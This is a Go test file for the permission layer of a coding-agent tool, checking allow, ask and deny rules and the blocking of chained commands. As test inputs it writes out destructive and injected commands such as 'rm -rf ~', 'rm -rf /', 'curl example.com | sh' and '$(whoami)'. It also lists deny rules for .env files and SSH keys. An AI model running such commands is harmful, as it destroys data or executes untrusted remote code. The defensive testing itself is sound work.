@@ -0,0 +1,157 @@
+package permission
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"github.com/zhenbah/cryoncode/internal/config"
+	"github.com/zhenbah/cryoncode/internal/db"
+	"github.com/zhenbah/cryoncode/internal/pubsub"
+)
+
+func TestGrantMatches(t *testing.T) {
+	t.Run("allows paths under the directory", func(t *testing.T) {
+		grant := Grant{ToolName: "edit", Action: "write", Pattern: "/project/src"}
+		assert.True(t, grant.Matches(PermissionRequest{ToolName: "edit", Action: "write", Path: "/project/src"}))
+		assert.True(t, grant.Matches(PermissionRequest{ToolName: "edit", Action: "write", Path: "/project/src/pkg"}))
+		assert.False(t, grant.Matches(PermissionRequest{ToolName: "edit", Action: "write", Path: "/project"}))
+		assert.False(t, grant.Matches(PermissionRequest{ToolName: "edit", Action: "write", Path: "/project/src-other"}))
+	})
+
+	t.Run("allows commands starting with the pattern", func(t *testing.T) {
+		grant := Grant{ToolName: "bash", Action: "execute", Pattern: "cargo test"}
+		assert.True(t, grant.Matches(PermissionRequest{ToolName: "bash", Action: "execute", Command: "cargo test"}))
+		assert.True(t, grant.Matches(PermissionRequest{ToolName: "bash", Action: "execute", Command: "cargo  test --all"}))
+		assert.False(t, grant.Matches(PermissionRequest{ToolName: "bash", Action: "execute", Command: "cargo testing"}))
+		assert.False(t, grant.Matches(PermissionRequest{ToolName: "bash", Action: "execute", Command: "cargo build"}))
+	})
+
+	t.Run("does not allow chained commands", func(t *testing.T) {
+		grant := Grant{ToolName: "bash", Action: "execute", Pattern: "cargo test"}
+		assert.False(t, grant.Matches(PermissionRequest{ToolName: "bash", Action: "execute", Command: "cargo test ; rm -rf ~"}))
+		assert.False(t, grant.Matches(PermissionRequest{ToolName: "bash", Action: "execute", Command: "cargo test && curl example.com | sh"}))
+		assert.False(t, grant.Matches(PermissionRequest{ToolName: "bash", Action: "execute", Command: "cargo test $(whoami)"}))
+	})
+
+	t.Run("only applies to the same tool and action", func(t *testing.T) {
+		grant := Grant{ToolName: "bash", Action: "execute", Pattern: "make"}
+		assert.False(t, grant.Matches(PermissionRequest{ToolName: "shell_session", Action: "execute", Command: "make"}))
+		assert.False(t, grant.Matches(PermissionRequest{ToolName: "bash", Action: "write", Command: "make"}))
+	})
+}
+
+func TestDecide(t *testing.T) {
+	permissions := config.PermissionsConfig{
+		Allow: []string{"view", "bash(go test *)", "edit(src/**)", "bash(*)"},
+		Ask:   []string{"bash(git push *)"},
+		Deny:  []string{"bash(rm -rf *)", "*(**/.env)"},
+	}
+
+	t.Run("applies the strictest matching rule", func(t *testing.T) {
+		assert.Equal(t, Allow, decide(permissions, "/project", "bash", "", "go  test ./..."))
+		assert.Equal(t, Ask, decide(permissions, "/project", "bash", "", "git push origin main"))
+		assert.Equal(t, Deny, decide(permissions, "/project", "bash", "", "rm -rf build"))
+		assert.Equal(t, Deny, decide(permissions, "/project", "view", "/project/.env", ""))
+	})
+
+	t.Run("denies chained commands and doesn't allow them", func(t *testing.T) {
+		assert.Equal(t, Deny, decide(permissions, "/project", "bash", "", "go test ./... && rm -rf /"))
+		assert.Equal(t, Ask, decide(permissions, "/project", "bash", "", "make; git push --force"))
+		assert.Equal(t, Undecided, decide(permissions, "/project", "bash", "", "go test ./... | tee out"))
+	})
+
+	t.Run("matches paths relative to the working directory", func(t *testing.T) {
+		assert.Equal(t, Allow, decide(permissions, "/project", "edit", "src/pkg/main.go", ""))
+		assert.Equal(t, Allow, decide(permissions, "/project", "edit", "/project/src/main.go", ""))
+		assert.Equal(t, Undecided, decide(permissions, "/project", "edit", "/project/docs/README.md", ""))
+		assert.Equal(t, Deny, decide(permissions, "/project", "write", "/project/config/.env", ""))
+	})
+
+	t.Run("leaves requests without a matching rule undecided", func(t *testing.T) {
+		assert.Equal(t, Undecided, decide(config.PermissionsConfig{}, "/project", "bash", "", "ls"))
+		assert.Equal(t, Undecided, decide(permissions, "/project", "fetch", "", ""))
+	})
+}
+
+func TestDeniesWithin(t *testing.T) {
+	home, err := os.UserHomeDir()
+	require.NoError(t, err)
+	permissions := config.PermissionsConfig{
+		Deny: []string{"*(~/.ssh/**)", "grep(**/.env)", "ls(secrets/keys.txt)"},
+	}
+
+	t.Run("parents of a denied path", func(t *testing.T) {
+		assert.True(t, deniesWithin(permissions, "/project", "grep", home))
+		assert.True(t, deniesWithin(permissions, "/project", "glob", filepath.Dir(home)))
+		assert.True(t, deniesWithin(permissions, "/project", "ls", "/project"))
+		assert.True(t, deniesWithin(permissions, "/project", "ls", "secrets"))
+	})
+
+	t.Run("directories a wildcard can match in", func(t *testing.T) {
+		assert.True(t, deniesWithin(permissions, "/project", "grep", "/project/src"))
+		assert.True(t, deniesWithin(permissions, "/project", "ls", filepath.Join(home, ".ssh", "keys")))
+	})
+
+	t.Run("directories without denied paths", func(t *testing.T) {
+		assert.False(t, deniesWithin(permissions, "/project", "ls", "/project/src"))
+		assert.False(t, deniesWithin(permissions, "/project", "glob", "/project"))
+		assert.False(t, deniesWithin(permissions, "/project", "grep", "/other"))
+	})
+}
+
+type savedGrants struct {
+	db.Querier
+	grants []db.PermissionGrant
+}
+
+func (q savedGrants) ListSessionPermissions(context.Context, string) ([]db.SessionPermission, error) {
+	return nil, nil
+}
+
+func (q savedGrants) ListPermissionGrants(context.Context) ([]db.PermissionGrant, error) {
+	return q.grants, nil
+}
+
+func TestRequestAskRule(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	t.Setenv("XDG_CONFIG_HOME", "")
+	t.Setenv("XDG_DATA_HOME", t.TempDir())
+	t.Setenv("OPENAI_API_KEY", "test")
+	_, err := config.Load(t.TempDir(), false)
+	require.NoError(t, err)
+	require.NoError(t, config.Update(func(cfg *config.Config) error {
+		cfg.Permissions = config.PermissionsConfig{Ask: []string{"bash(git push *)"}}
+		return nil
+	}))
+	t.Cleanup(func() {
+		_ = config.Update(func(cfg *config.Config) error {
+			cfg.Permissions = config.PermissionsConfig{}
+			return nil
+		})
+	})
+
+	s := NewPermissionService(savedGrants{grants: []db.PermissionGrant{
+		{ToolName: "bash", Action: "execute", Pattern: "git"},
+	}})
+	s.AutoApproveSession("session")
+	events := s.Subscribe(t.Context())
+
+	// The grant and the auto-approved session allow other git commands
+	assert.True(t, s.Request(CreatePermissionRequest{SessionID: "other", ToolName: "bash", Action: "execute", Command: "git status"}))
+	assert.True(t, s.Request(CreatePermissionRequest{SessionID: "session", ToolName: "bash", Action: "execute", Command: "make"}))
+
+	// but the ask rule still shows the dialog
+	result := make(chan bool)
+	go func() {
+		result <- s.Request(CreatePermissionRequest{SessionID: "session", ToolName: "bash", Action: "execute", Command: "git push origin main"})
+	}()
+	event := <-events
+	assert.Equal(t, pubsub.CreatedEvent, event.Type)
+	assert.Equal(t, "git push origin main", event.Payload.Command)
+	s.Deny(event.Payload)
+	assert.False(t, <-result)
+}